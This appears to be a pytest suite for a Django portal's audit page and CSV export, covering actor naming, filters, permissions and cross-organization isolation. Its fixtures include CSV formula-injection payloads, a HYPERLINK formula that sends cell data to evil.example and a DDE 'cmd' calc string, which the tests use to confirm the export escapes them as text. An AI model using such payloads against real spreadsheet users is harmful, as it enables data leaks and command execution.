"""The audit page names system actors in words and exports what it shows as a safe CSV."""

import csv
import io

import pytest

from portal.audit.actors import system_actor_words
from portal.audit.services import audit_record

pytestmark = pytest.mark.django_db

URL = "/o/acme/audit/"
CSV_URL = "/o/acme/audit.csv"


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def history(team, outsider):
    org = team.organization
    audit_record(
        action="instance.state_changed",
        organization=org,
        actor_label="portal.instances.tasks.instances_reconcile",
        detail={"from": "running", "to": "failed"},
    )
    audit_record(action="org.renamed", organization=org, actor=team.owner)
    audit_record(
        action="org.renamed",
        organization=org,
        actor=team.owner,
        detail={"name": '=HYPERLINK("http://evil.example/?"&A1,"Pay")'},
    )
    audit_record(action="org.renamed", organization=outsider.organization, actor=outsider)


@pytest.mark.parametrize(
    "label, words",
    [
        ("portal.instances.tasks.instances_reconcile", "Backfill, reconciliation"),
        ("invoices_issue_for_month", "Backfill, monthly invoicing"),
        ("reservation_quotes_expire", "Backfill, quote expiry"),
        ("automatic rule “small asks”", "Backfill, automatic rule “small asks”"),
        ("portal.somewhere.tasks.brand_new_job", "Backfill, brand new job"),
        ("", "Backfill"),
    ],
)
def test_system_actors_are_named_in_words(label, words):
    assert system_actor_words(label) == words


def test_the_page_names_the_reconciliation_not_its_task_path(team, client_for, history):
    page = client_for(team.owner.user).get(URL).content.decode()

    assert "Backfill, reconciliation" in page
    assert ">portal.instances.tasks.instances_reconcile<" not in page
    assert 'href="/o/acme/audit.csv"' in page


def test_the_export_link_keeps_the_filters(team, client_for, history):
    page = client_for(team.owner.user).get(URL, {"action": "org", "page": "1"}).content.decode()

    assert 'href="/o/acme/audit.csv?action=org"' in page
    assert "Export CSV (filtered)" in page


def test_the_csv_holds_the_organizations_entries_newest_first_and_safe(team, client_for, history):
    response = client_for(team.owner.user).get(CSV_URL)

    table = rows(response)
    assert table[0][:4] == ["when (UTC)", "action", "action code", "actor"]
    assert [row[2] for row in table[1:]] == [
        "org.renamed",
        "org.renamed",
        "instance.state_changed",
    ]
    assert table[3][3] == "Backfill, reconciliation" and table[3][4] == "System"
    assert table[1][3] == team.owner.user.email
    assert '"to": "failed"' in table[3][8]
    # The detail cell starts with "{", but a cell a spreadsheet would run never leaves unquoted.
    assert all(not cell.startswith(("=", "+", "@")) for row in table for cell in row)
    assert "attachment" in response["Content-Disposition"]


def test_the_csv_applies_the_filters(team, client_for, history):
    table = rows(client_for(team.owner.user).get(CSV_URL, {"action": "instance"}))

    assert [row[2] for row in table[1:]] == ["instance.state_changed"]


def test_a_formula_typed_by_a_customer_is_written_as_text(team, client_for):
    organization = team.organization
    organization.name = "=cmd|' /C calc'!A0"
    organization.save(update_fields=["name"])
    audit_record(
        action="org.renamed", organization=organization, actor=team.owner, target=organization
    )
    table = rows(client_for(team.owner.user).get(CSV_URL))

    assert table[1][5] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize("role", ["member", "billing", "viewer"])
def test_only_owners_and_admins_may_export(team, client_for, role):
    assert client_for(team.by_role(role).user).get(CSV_URL).status_code == 403


def test_another_organization_gets_a_404(outsider, client_for):
    assert client_for(outsider.user).get(CSV_URL).status_code == 404
